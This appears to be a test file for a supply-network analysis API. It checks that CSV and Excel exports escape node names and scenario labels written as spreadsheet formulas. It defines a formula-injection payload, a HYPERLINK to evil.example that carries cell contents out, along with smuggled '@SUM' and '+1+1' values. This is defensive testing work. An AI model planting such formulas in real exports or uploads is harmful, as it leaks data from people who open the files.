"""A run's exported results are safe to open in a spreadsheet, whatever an uploader named their nodes."""

from __future__ import annotations

import io
from dataclasses import replace
from pathlib import Path

import openpyxl

from clients import Api, csv_export_rows, import_file
from networks.world import small_network
from setu.network.io.cells import FORMULA_STARTS
from setu.network.io.setu_format import write_setu
from setu.network.model import Network, Supply

API = "/api/v1"
PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"open me")'


def renamed(network: Network, old: str, new: str) -> Network:
    """``network`` with node ``old`` called ``new`` everywhere it is named."""

    def name(node_id: str) -> str:
        return new if node_id == old else node_id

    network.nodes = [replace(node, id=name(node.id)) for node in network.nodes]
    network.supplies = [Supply(name(s.supplier), name(s.customer)) for s in network.supplies]
    network.products = [replace(p, node=name(p.node)) for p in network.products]
    network.bom = [replace(line, node=name(line.node)) for line in network.bom]
    return network


def test_a_node_named_as_a_formula_exports_as_text(api: Api, tmp_path: Path) -> None:
    # The attacker uploads a network whose supplier is named as a spreadsheet formula, then a custom
    # scenario labelled as one; whoever exports the sweep opens a CSV that must not run either.
    network = renamed(small_network(), "T3_4", PAYLOAD)
    data = write_setu(network, tmp_path / "evil.xlsx").read_bytes()
    upload = import_file(api, "in-analyst", "evil.xlsx", data, releases=["IN", "US"], classification="RESTRICTED")
    assert upload.status_code == 201, upload.text
    network_id = upload.json()["id"]
    custom = api.post(
        "in-analyst",
        f"{API}/runs/scenarios",
        json={"network_id": network_id, "kind": "custom", "nodes": [PAYLOAD], "id": "@SUM(A1)", "label": "+1+1"},
    )
    assert custom.status_code == 201, custom.text
    for body in ({"sweep": True, "ttr": 2}, {"scenario_ids": [custom.json()["id"]]}):
        run = api.post("in-analyst", f"{API}/runs", json={"network_id": network_id, **body}).json()
        assert api.wait("in-analyst", run["id"])["status"] == "completed"
        exported = api.get("us-analyst", f"{API}/runs/{run['id']}/export", params={"format": "csv"})
        assert exported.status_code == 200, exported.text
        rows = csv_export_rows(exported.text)
        assert rows
        for row in rows:
            for column in ("scenario_id", "disrupted"):
                assert not row[column].startswith(FORMULA_STARTS), row
        texts = {row["scenario_id"] for row in rows} | {row["disrupted"] for row in rows}
        assert ("'" + PAYLOAD in texts) or ("'@SUM(A1)" in texts)
        # In Excel the same names are stored as text: no cell of the workbook is a formula.
        excel = api.get("us-analyst", f"{API}/runs/{run['id']}/export", params={"format": "xlsx"})
        sheet = openpyxl.load_workbook(io.BytesIO(excel.content)).active
        assert sheet is not None
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert all(cell.data_type != "f" for cell in cells)
        assert {PAYLOAD, "@SUM(A1)"} & {cell.value for cell in cells}
